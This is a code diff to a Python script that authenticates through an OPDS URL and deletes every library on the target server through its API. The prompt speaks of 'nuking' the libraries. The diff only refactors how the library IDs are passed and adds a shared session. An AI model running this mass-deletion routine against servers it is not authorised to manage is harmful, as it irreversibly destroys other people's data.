@@ -68,24 +68,23 @@ def get_all_libraries(jwt_token, host_address):
     return library_ids
 
 
-def delete_all_libraries(jwt_token, host_address):
+def delete_all_libraries(jwt_token, host_address, library_ids):
     delete_endpoint = "/api/Library/delete"
     headers = {
         "Authorization": f"Bearer {jwt_token}",
         "Content-Type": "application/json"
     }
     # take the library IDs and delete them
-    library_ids = get_all_libraries(jwt_token, host_address)
-
-    for library_id in library_ids:
-        string_it = str(library_id)
-        build_url = host_address + delete_endpoint + "?libraryid=" + string_it
-        response = requests.delete(build_url, headers=headers)
-        if response.status_code != 200:
-            print("Error: Failed to delete data from API.")
-        else:
-            print(f"Library '{library_id}' deleted. Response: {response.status_code} - Sleeping before next launch")
-            time.sleep(0.55)
+    with requests.Session() as session:
+        for library_id in library_ids:
+            string_it = str(library_id)
+            build_url = host_address + delete_endpoint + "?libraryid=" + string_it
+            response = session.delete(build_url, headers=headers)
+            if response.status_code != 200:
+                print("Error: Failed to delete data from API.")
+            else:
+                print(f"Library '{library_id}' deleted. Response: {response.status_code} - Sleeping before next launch")
+                time.sleep(0.55)
     return
 
 
@@ -98,8 +97,8 @@ def main():
             time.sleep(random.randint(3, 8))
             url = input("Enter the full OPDS URL you want to nuke the libraries from: ")
             jwt_token, host_address = authenticate(url)
-            get_all_libraries(jwt_token, host_address)
-            delete_all_libraries(jwt_token, host_address)
+            library_ids = get_all_libraries(jwt_token, host_address)
+            delete_all_libraries(jwt_token, host_address, library_ids)
         else:
             print("Back to DEFCON 5")
             exit()